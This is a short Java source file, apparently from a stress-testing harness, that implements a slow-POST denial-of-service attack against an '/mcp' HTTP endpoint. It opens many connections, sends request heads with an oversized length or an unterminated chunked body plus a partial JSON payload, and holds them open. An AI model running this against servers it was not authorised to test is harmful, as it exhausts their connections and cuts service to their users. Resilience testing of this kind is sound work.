package attack;

import wire.Peers;
import wire.Requests;

/// Posts of which the client sends the head and at most a part of the body, so that the server waits for the rest.
///
/// @param count  the number of connections
/// @param length the length in the head, or 0 for chunks without an end
/// @param sent   how many bytes of the body the client sends
public record HalfSentPosts(String name, int count, int length, int sent) implements Attack {

    @Override
    public void start(Peers peers) {
        String framing = length > 0 ? "Content-Length: " + length + "\r\n\r\n"
                : "Transfer-Encoding: chunked\r\n\r\n" + Integer.toHexString(sent + 1) + "\r\n";
        byte[] part = Requests.utf8(Requests.head("/mcp", "") + framing + (sent == 0 ? "" : "[" + "1,".repeat((sent - 1) / 2)));
        peers.start(count, connection -> {
            connection.send(part);
            connection.drain();
        });
    }

    @Override
    public boolean takesConnections() {
        return true;
    }
}
